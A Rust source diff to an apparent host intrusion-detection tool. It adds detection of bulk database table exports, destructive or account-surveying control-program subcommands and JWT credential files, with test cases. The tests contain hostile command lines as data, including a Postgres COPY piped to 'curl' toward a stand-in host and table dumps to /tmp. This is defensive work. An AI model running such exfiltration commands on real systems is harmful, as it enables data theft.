@@ -67,6 +67,45 @@ pub const LOGIN_ENTRIES: &[&str] = &[
     "xterm",
     "gnome-terminal-",
     "konsole",
+    // Desktop terminal emulators: the program that opens a terminal and runs the person's
+    // shell in it, as xterm does (their process names, cut to 15 bytes as the kernel
+    // keeps them).
+    "xfce4-terminal",
+    "mate-terminal",
+    "lxterminal",
+    "qterminal",
+    "kitty",
+    "alacritty",
+    "wezterm-gui",
+    "footclient",
+    "foot",
+    "tilix",
+    "terminator",
+    "kgx",
+    "ptyxis-agent",
+    "ghostty",
+    "urxvt",
+    "rxvt",
+    "sakura",
+    "terminology",
+    "guake",
+    "tilda",
+    "yakuake",
+    "deepin-terminal",
+    "cool-retro-term",
+    // Remote terminal gateways: an SSH server, a browser or a fleet agent's terminal.
+    "dropbear",
+    "ttyd",
+    "gotty",
+    "shellinaboxd",
+    "cockpit-session",
+    "cockpit-bridge",
+    "teleport",
+    "tmate",
+    "ssm-session-wor",
+    "etserver",
+    "etterminal",
+    "mender-connect",
 ];
 /// The runtime processes a shell `exec`'d into a container has for its parent, whichever
 /// runtime the node runs (containerd's shim, CRI-O's and Podman's conmon, the OCI
@@ -1362,7 +1401,8 @@ pub enum Activity {
     ShellFromStdin(String),
     /// A program ran from a drop directory or memfd: its path.
     ExecDropped(String),
-    /// A file was opened for writing in a drop directory: (path, writer's name).
+    /// A file was opened for writing in a drop directory, or where programs are installed
+    /// ([`crate::catalogue::installed_location`]): (path, writer's name).
     WroteFile(String, String),
     /// A connection that looks like a reverse shell, a tunnel or an unusual service:
     /// (address, connecting program).
@@ -1979,7 +2019,7 @@ fn open_activity(ev: &FlatEvent) -> Option<Activity> {
     if write && persists(&path) && !writes_by_design(&reader, &path) && opened {
         return Some(Activity::PersistenceWrite(path, reader));
     }
-    if write && in_drop_dir(&path) && opened {
+    if write && (in_drop_dir(&path) || crate::catalogue::installed_location(&path)) && opened {
         return Some(Activity::WroteFile(path, reader));
     }
     None
@@ -2224,7 +2264,7 @@ impl Step {
             Step::StoreDestroyed => {
                 "a whole database or data store dropped or flushed, or its newest files destroyed"
             }
-            Step::StoreTaken => "a whole database, zone or keyring dumped or transferred",
+            Step::StoreTaken => "a whole database, table, zone or keyring dumped or transferred",
             Step::LogDestroyed => "a log the same session had just created removed",
             Step::InstanceMetadata => "a connection to the cloud instance metadata service",
             Step::KeySent => "key, credential or configuration file copied to another host",
@@ -2265,7 +2305,7 @@ impl Step {
             Step::StoreDestroyed => {
                 "データベース・データストア全体の削除・消去、または最新ファイルの破棄"
             }
-            Step::StoreTaken => "データベース全体・DNS ゾーン・鍵束の一括取得・転送",
+            Step::StoreTaken => "データベース全体・テーブル・DNS ゾーン・鍵束の一括取得・転送",
             Step::LogDestroyed => "同じセッションが作成した直後のログの削除",
             Step::InstanceMetadata => "クラウドのインスタンスメタデータサービスへの接続",
             Step::KeySent => "鍵・認証情報・設定ファイルそのものの他ホストへのコピー",
@@ -2336,10 +2376,80 @@ pub fn grants_by_subcommand(args: &[&str]) -> bool {
                 .iter()
                 .any(|v| w.strip_prefix(v).is_some_and(object))
     };
+    // An identity's password set through the subcommand (`emqx ctl admins passwd admin X`,
+    // `influx user password`).
+    let identity = |w: &str| !matches!(w, "password" | "passwd") && object(w);
     words.iter().any(|w| compound(w))
-        || words
+        || words.windows(2).any(|p| {
+            (verb(&p[0]) && object(&p[1]))
+                || (object(&p[0]) && verb(&p[1]))
+                || (identity(&p[0]) && matches!(p[1].as_str(), "password" | "passwd"))
+        })
+}
+
+/// Verbs of a program's own subcommand that destroy or take away what it manages: data,
+/// topics, queues, nodes, sessions (`topics delete`, `db:rollback`, `admin purge`).
+const DESTRUCTIVE_VERBS: &[&str] = &[
+    "delete",
+    "del",
+    "drop",
+    "flush",
+    "flushall",
+    "flushdb",
+    "purge",
+    "truncate",
+    "destroy",
+    "wipe",
+    "erase",
+    "reset",
+    "rollback",
+    "remove",
+    "rm",
+    "revoke",
+    "decommission",
+    "evict",
+    "shutdown",
+    "kill",
+    "uninstall",
+];
+
+/// Whether a command line's words (short options, paths and `key=value` words left out; a
+/// long option's name kept, as `--delete`) act on
+/// what the program manages by its own subcommand in a way that takes something away,
+/// grants access or surveys who has access: a destructive verb ([`DESTRUCTIVE_VERBS`], alone
+/// or in a compound such as `db:rollback` or `delete-topic`), a grant
+/// ([`grants_by_subcommand`]), or a listing of its accounts (`list_users`, `user list`,
+/// `admins list`). A listing of its data, a status or a statistics query is none (session
+/// 23: an installed control program's subcommand is what tells an operator's check from a
+/// stolen shell's deletion or survey of accounts).
+pub fn sensitive_subcommand(args: &[&str]) -> bool {
+    let mut parts: Vec<String> = Vec::new();
+    for a in args {
+        // A long option can be the verb itself (`kafka-topics --delete`), never its value.
+        let a = match a.strip_prefix("--") {
+            Some(opt) => opt.split('=').next().unwrap_or_default(),
+            None if a.starts_with('-') || a.contains('/') || a.contains('=') => continue,
+            None => a,
+        };
+        let w = a
+            .trim_matches(|c: char| c == '"' || c == '\'' || c == ';')
+            .to_ascii_lowercase();
+        parts.extend(w.split(['_', '-', ':', '.']).map(str::to_string));
+    }
+    let listing = |w: &str| matches!(w, "list" | "ls" | "show" | "get" | "dump" | "export");
+    let accounts = |w: &str| {
+        matches!(
+            w,
+            "user" | "users" | "account" | "accounts" | "admin" | "admins" | "acl" | "acls"
+        )
+    };
+    parts
+        .iter()
+        .any(|p| DESTRUCTIVE_VERBS.contains(&p.as_str()))
+        || parts
             .windows(2)
-            .any(|p| (verb(&p[0]) && object(&p[1])) || (object(&p[0]) && verb(&p[1])))
+            .any(|p| (listing(&p[0]) && accounts(&p[1])) || (accounts(&p[0]) && listing(&p[1])))
+        || grants_by_subcommand(args)
 }
 
 /// General-purpose programs that read, encode, copy or pack a file's contents.
@@ -3021,8 +3131,8 @@ fn key_or_password_file(base: &str) -> bool {
                 .any(|x| base.eq_ignore_ascii_case(x)))
         // A bearer token's file, whatever issued it: a secret agent's sink (`.vault-token`),
         // a projected service-account `token`, `bootstrap-token`, an editor's `token.json`,
-        // a static token table (`tokens.csv`).
-        || ["token", "tokens", "token.json", "token.txt", "tokens.csv"]
+        // a static token table (`tokens.csv`), a signed JSON Web Token (`superuser.jwt`).
+        || ["token", "tokens", "token.json", "token.txt", "tokens.csv", ".jwt"]
             .iter()
             .any(|x| ends(x))
 }
@@ -3808,9 +3918,9 @@ pub fn wipes_current_records(program: &str, args: &[&str], ts_ns: u64) -> bool {
 }
 
 /// Whether a command line takes a whole data store at once, whatever its program
-/// ([`Step::StoreTaken`]): every database (`--all-databases`), a DNS zone transfer (`AXFR`,
-/// `IXFR`, as a query type or `type=axfr`), a keyring's secret keys
-/// (`--export-secret-keys`, `--export-secret-subkeys`).
+/// ([`Step::StoreTaken`]): every database (`--all-databases`), a table exported in bulk
+/// (`exports_table`), a DNS zone transfer (`AXFR`, `IXFR`, as a query type or
+/// `type=axfr`), a keyring's secret keys (`--export-secret-keys`, `--export-secret-subkeys`).
 pub fn cmdline_takes_store(cmdline: &str) -> bool {
     takes_store(&command_words(cmdline))
 }
@@ -3826,7 +3936,23 @@ fn takes_store(w: &[String]) -> bool {
                 | "--export-secret-keys"
                 | "--export-secret-subkeys"
         )
-    })
+    }) || exports_table(w)
+}
+
+/// Whether a query exports a table's rows out of the database in bulk: SQL's `COPY … TO
+/// STDOUT`, `TO PROGRAM` or `TO '/path'` (psql's `\copy` too), MySQL's `INTO OUTFILE` or
+/// `INTO DUMPFILE` (session 23: a stolen exec shell's `psql -c "COPY customers TO STDOUT"`).
+/// `COPY … FROM` (a load) is not one.
+fn exports_table(w: &[String]) -> bool {
+    let copy = w.iter().position(|x| x == "copy" || x == "\\copy");
+    let to_out = |i: usize| {
+        w.get(i) == Some(&"to".to_string())
+            && w.get(i + 1)
+                .is_some_and(|d| d == "stdout" || d == "program" || d.starts_with('/'))
+    };
+    copy.is_some_and(|c| (c + 1..w.len()).any(to_out))
+        || w.windows(2)
+            .any(|p| p[0] == "into" && matches!(p[1].as_str(), "outfile" | "dumpfile"))
 }
 
 /// Whether a command-line client reads a secret store, whatever its product
@@ -4338,6 +4464,10 @@ mod tests {
             "dig corp.example ixfr=2024010101",
             "gpg --armor --export-secret-keys",
             "gpg --export-secret-subkeys ABCD",
+            "psql -U postgres -d orders -c COPY customers TO STDOUT WITH CSV",
+            "psql -c \"\\copy (SELECT * FROM cards) to '/tmp/c.csv' csv\"",
+            "psql -c \"COPY accounts TO PROGRAM 'curl -T - http://x'\"",
+            "mysql -e \"SELECT * FROM users INTO OUTFILE '/tmp/u.txt'\"",
         ] {
             assert!(cmdline_takes_store(cmd), "{cmd}");
             assert!(!cmdline_destroys_store(cmd), "{cmd}");
@@ -4354,6 +4484,9 @@ mod tests {
             "find /var/log/app -mtime +14 -delete",
             "find /data/exports -mmin -120 -print",
             "find /tmp -mtime -1 -exec ls -l {} ;",
+            "psql -c \"COPY staging FROM STDIN WITH CSV\"",
+            "psql -c \"\\copy staging from '/srv/load/orders.csv' csv\"",
+            "cp -a /srv/app /srv/app.bak",
         ] {
             assert!(!cmdline_destroys_store(cmd), "{cmd}");
             assert!(!cmdline_takes_store(cmd), "{cmd}");
@@ -6519,5 +6652,38 @@ mod tests {
             exec("scp", "scp r@185.244.25.3:/x /tmp/x"),
             Some(Activity::Download(..))
         ));
+    }
+    /// Session 23: what an installed control program's subcommand does tells an
+    /// operator's look from a stolen shell's act: deleting, resetting, rolling back,
+    /// setting a password or surveying the accounts is sensitive; listing data, a status or
+    /// statistics is not. A signed JSON Web Token's file is credential material.
+    #[test]
+    fn a_control_programs_subcommand_is_sensitive_by_its_verb() {
+        let words = |cmd: &'static str| cmd.split_whitespace().skip(1).collect::<Vec<_>>();
+        for cmd in [
+            "java -cp /pulsar/lib/* org.apache.pulsar.admin.cli.PulsarAdminTool /pulsar/conf/client.conf topics delete -f persistent://public/default/orders",
+            "ruby bin/rails db:rollback STEP=40",
+            "emqx ctl admins passwd admin Winter2026!",
+            "rabbitmqctl list_users",
+            "kafka-topics.sh --bootstrap-server k:9092 --delete --topic orders",
+            "influx user password -n admin",
+            "nodetool decommission",
+            "redis-cli ACL LIST",
+        ] {
+            assert!(sensitive_subcommand(&words(cmd)), "{cmd}");
+        }
+        for cmd in [
+            "rabbitmqctl list_queues name messages_unacknowledged",
+            "emqx ctl clients list",
+            "patronictl list",
+            "ruby bin/rails db:migrate:status",
+            "nodetool status",
+            "redis-cli INFO replication",
+            "java -cp /pulsar/lib/* org.apache.pulsar.admin.cli.PulsarAdminTool /pulsar/conf/client.conf topics stats persistent://public/default/orders",
+        ] {
+            assert!(!sensitive_subcommand(&words(cmd)), "{cmd}");
+        }
+        assert!(is_credential_material("/pulsar/tokens/superuser.jwt"));
+        assert!(!is_credential_material("/pulsar/conf/client.conf"));
     }
 }
